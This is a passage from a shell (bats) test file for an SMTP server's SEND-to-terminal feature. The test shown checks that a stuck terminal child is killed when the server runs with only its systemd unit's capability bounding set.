	[ "$(grep -c "no answer in time, given up" "$T/log")" = 2 ]
}

@test "with only the systemd unit's capabilities, a stuck terminal child is still killed (root only)" {
	[ "$(id -u)" = 0 ] || skip "needs root: a capability bounding set only limits root"
	local caps
	caps=$(sed -n 's/^CapabilityBoundingSet=//p' "$TOP/units/smtp.service" |
		tr 'A-Z ' 'a-z\n' | sed 's/^cap_/+/' | paste -sd, -)
	rm -f "$T/fifo.caps"
	mkfifo -m 644 "$T/fifo.caps"
	input "EHLO client.example.org" "SEND FROM:<alice@example.org>" \
		"RCPT TO:<carol@tttest.com>" QUIT
	# Without CAP_KILL the root parent could not kill the child (it is carol by then)
	# and would wait for it for ever; timeout would end it and the reply be missing.
	timeout -s KILL 20 setpriv --bounding-set "-all,$caps" --inh-caps -all --no-new-privs \
		"$T/bin/smtp" --send any --utmp "$T/fifo.caps" --tty-timeout 1 <"$T/in" >"$T/replies" || true
	: <>"$T/fifo.caps"
	grep -q "^451 4.3.0 <carol@tttest.com>: Cannot reach the terminal, try again"$'\r$' "$T/replies"
	grep -q '^221 2.0.0 smtp.tttest.com Bye'$'\r$' "$T/replies"
}
